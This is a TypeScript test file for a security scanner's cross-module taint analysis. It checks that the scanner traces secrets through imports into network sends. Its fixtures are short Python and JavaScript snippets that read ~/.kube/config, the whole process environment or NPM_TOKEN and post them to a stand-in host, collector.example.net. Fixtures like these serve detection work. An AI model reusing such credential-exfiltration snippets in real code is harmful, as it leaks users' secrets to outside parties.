import { describe, expect, it } from 'vitest';
import type { FileFacts } from '../../src/analysis/extract.js';
import type { Lang } from '../../src/analysis/facts.js';
import { DerivedFacts } from '../../src/model/derived.js';
import type { ScanModel } from '../../src/model/model.js';
import { joinedBehaviours, resolveModule } from '../../src/model/module-flows.js';
import { factsOf } from '../support/code.js';

/**
 * The join across modules (src/model/module-flows.ts): a caller's records meet the callee's summary in
 * the file its import resolves to. The model here is only what the join reads: files and their facts.
 */

async function modelOf(files: Record<string, string>): Promise<ScanModel> {
  const facts = new Map<string, FileFacts>();
  for (const [path, text] of Object.entries(files)) {
    const lang: Lang = path.endsWith('.py') ? 'python' : path.endsWith('.ts') ? 'typescript' : 'javascript';
    facts.set(path, (await factsOf(lang, text)) as FileFacts);
  }
  return {
    files: { isFile: (p: string) => facts.has(p), text: async (p: string) => ({ text: files[p] ?? '' }) },
    facts: async (p: string) => facts.get(p),
    derived: new DerivedFacts(),
  } as unknown as ScanModel;
}

const SECRET_READER =
  'import os\n\ndef pull():\n    return open(os.path.expanduser("~/.kube/config")).read()\n';

describe('module resolution', () => {
  it('finds Python modules beside the script, in packages and up relative imports', async () => {
    const model = await modelOf({ 's/a.py': '', 's/pkg/__init__.py': '', 's/pkg/b.py': '', 's/x.js': '' });
    expect(resolveModule(model, 's/main.py', 'python', 'a')).toBe('s/a.py');
    expect(resolveModule(model, 's/main.py', 'python', 'pkg')).toBe('s/pkg/__init__.py');
    expect(resolveModule(model, 's/pkg/c.py', 'python', '.b')).toBe('s/pkg/b.py');
    expect(resolveModule(model, 's/pkg/c.py', 'python', '..a')).toBe('s/a.py');
    expect(resolveModule(model, 's/main.py', 'python', 'requests')).toBeUndefined();
    expect(resolveModule(model, 's/main.ts', 'javascript', './x.js')).toBe('s/x.js');
  });
});

describe('joined behaviours', () => {
  it('merges what an imported function returns into the send that carries it', async () => {
    const model = await modelOf({
      'k/kube.py': SECRET_READER,
      'k/main.py':
        'import requests\nfrom kube import pull\n\nrequests.post("https://collector.example.net", data=pull())\n',
    });
    const joined = await joinedBehaviours(model, 'k/main.py');
    const [send] = [...joined.replaced.values()];
    expect(send).toMatchObject({ kind: 'send', data: { taints: expect.arrayContaining(['secret']) } });
    expect(send?.across?.[0]).toMatchObject({ path: 'k/kube.py', note: 'pull() returns it' });
  });

  it('adds the sink a parameter reaches in another module, located at the call', async () => {
    const model = await modelOf({
      'j/lib/net.ts':
        'export async function post(body: string) {\n  await fetch("https://collector.example.net", { method: "POST", body });\n}\n',
      'j/lib/index.ts': 'export { post } from "./net";\n',
      'j/main.ts': 'import { post } from "./lib";\nawait post(JSON.stringify(process.env));\n',
    });
    const { added } = await joinedBehaviours(model, 'j/main.ts');
    expect(added).toHaveLength(1);
    expect(added[0]).toMatchObject({ kind: 'send', at: { startLine: 2 }, data: { secret: 'env-all' } });
    expect(added[0]?.across?.[0]?.path).toBe('j/lib/net.ts');
  });

  it('follows a wrapper three modules deep and stops at a cycle', async () => {
    const model = await modelOf({
      'c/a.py': SECRET_READER,
      'c/b.py': 'from a import pull\nfrom c import loop\n\ndef wrap():\n    return {"cfg": pull()}\n',
      'c/c.py':
        'import urllib.request\nfrom b import wrap\n\ndef loop():\n    return wrap()\n\nurllib.request.urlopen("https://collector.example.net", data=str(loop()).encode())\n',
    });
    const { replaced } = await joinedBehaviours(model, 'c/c.py');
    expect([...replaced.values()][0]).toMatchObject({ data: { secret: 'kube-config' } });
  });

  it('finds a classmethod of a class imported by name from a module of the package', async () => {
    const model = await modelOf({
      'p/pkg/ctx.py': `${SECRET_READER}\nclass Ctx:\n    @classmethod\n    def build(cls):\n        return cls(pull())\n`,
      'p/pkg/main.py':
        'import requests\nfrom .ctx import Ctx\n\nrequests.post("https://collector.example.net", json={"c": Ctx.build()})\n',
    });
    const [send] = [...(await joinedBehaviours(model, 'p/pkg/main.py')).replaced.values()];
    expect(send).toMatchObject({ kind: 'send', data: { secret: 'kube-config' } });
    expect(send?.across?.[0]).toMatchObject({ path: 'p/pkg/ctx.py', note: 'Ctx.build() returns it' });
  });

  const STORES = [
    'class Disk:',
    '    def put(self, doc):',
    '        open("/tmp/out.json", "w").write(doc)',
    '',
    'class Remote:',
    '    def put(self, doc):',
    '        requests.post("https://collector.example.net", data=doc)',
    '',
  ];

  it('weighs every class method of that name when a module function picks the class at run time', async () => {
    const js = await modelOf({
      'f/store.js': [
        'class Disk { put(doc) { require("fs").writeFileSync("/tmp/out.json", doc); } }',
        'class Remote { put(doc) { return fetch("https://collector.example.net", { method: "POST", body: doc }); } }',
        'export function makeStore(cfg) { return cfg.remote ? new Remote() : new Disk(); }',
      ].join('\n'),
      'f/main.js':
        'import { makeStore } from "./store.js";\nmakeStore({ remote: true }).put(process.env.NPM_TOKEN);\n',
    });
    // Both classes' sinks are reached: the file write of one, the send of the other.
    const added = (await joinedBehaviours(js, 'f/main.js')).added.filter((b) => b.kind === 'send');
    expect(added).toMatchObject([{ kind: 'send', data: { secret: 'env-secret' }, at: { startLine: 2 } }]);
    const py = await modelOf({
      'f/store.py': [
        'import requests',
        '',
        ...STORES,
        'def make_store(cfg):',
        '    return Remote() if cfg else Disk()',
      ].join('\n'),
      'f/main.py': `import os\nfrom store import make_store\n\nmake_store(1).put(os.environ["NPM_TOKEN"])\n`,
    });
    expect((await joinedBehaviours(py, 'f/main.py')).added.map((b) => b.kind).sort()).toEqual([
      'send',
      'write',
    ]);
  });

  it('does not take another class method for a class whose own method sends nothing', async () => {
    const model = await modelOf({
      'g/store.py': [
        'import requests',
        '',
        ...STORES,
        'class Quiet:',
        '    def put(self, doc):',
        '        return len(doc)',
      ].join('\n'),
      'g/main.py': 'import os\nfrom store import Quiet\n\nQuiet().put(os.environ["NPM_TOKEN"])\n',
    });
    expect((await joinedBehaviours(model, 'g/main.py')).added).toEqual([]);
  });

  it('joins nothing for values that carry no taint', async () => {
    const model = await modelOf({
      'n/cfg.py': 'def region():\n    return "eu-west-1"\n',
      'n/send.py':
        'import requests\n\ndef ship(x):\n    requests.post("https://collector.example.net", data=x)\n',
      'n/main.py':
        'import requests\nfrom cfg import region\nfrom send import ship\n\nrequests.post("https://collector.example.net", data=region())\nship("weekly report")\n',
    });
    const joined = await joinedBehaviours(model, 'n/main.py');
    expect(joined.replaced.size + joined.added.length).toBe(0);
  });
});
